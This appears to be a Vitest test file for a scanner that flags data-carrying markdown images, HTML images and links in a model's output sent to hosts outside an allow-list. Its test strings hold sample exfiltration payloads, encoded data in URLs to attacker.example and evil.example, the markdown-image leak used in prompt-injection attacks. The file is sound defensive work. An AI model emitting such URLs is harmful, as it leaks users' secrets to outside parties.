import { describe, expect, it } from 'vitest';
import { runScanner } from '../testing.js';
import scanner from './exfiltration.js';

const scan = (text: string, options: unknown = { allowedDomains: ['docs.example.com'] }) =>
  runScanner(scanner, text, { direction: 'output' }, options).filter((f) => f.score >= 0.5);

describe('exfiltration scanner', () => {
  it('flags an image to an unknown host carrying data, spanning the whole markdown', () => {
    const text =
      'Done! ![loading](https://attacker.example/p.png?d=SGVsbG8gdGhpcyBpcyB0aGUgdXNlcidzIHNlY3JldA) ok';
    const [f] = scan(text);
    expect(f).toMatchObject({ type: 'markdown_image' });
    expect(f?.score).toBeGreaterThan(0.9);
    expect(text.slice(f?.start, f?.end)).toMatch(/^!\[loading\]\(.*\)$/);
  });

  it('flags reference-style images, HTML images and data-carrying links', () => {
    expect(scan('![x][1]\n\n[1]: https://evil.example/i.gif?q=abc')).toHaveLength(1);
    expect(scan('<img src="https://evil.example/t.gif?u=ZXhmaWx0cmF0ZWQgZGF0YQ1">')).toHaveLength(1);
    expect(scan('[click](https://evil.example/c?session=aGVsbG8td29ybGQtc2VjcmV0LXRva2Vu)')).toHaveLength(1);
  });

  it('allows allow-listed hosts and their subdomains, and plain links without data', () => {
    expect(scan('![diagram](https://docs.example.com/img/arch.png?v=3)')).toEqual([]);
    expect(scan('![diagram](https://cdn.docs.example.com/a.png)')).toEqual([]);
    expect(scan('See [the docs](https://nodejs.org/api/fs.html).')).toEqual([]);
    expect(scan('Plain text with no links at all.')).toEqual([]);
  });
});
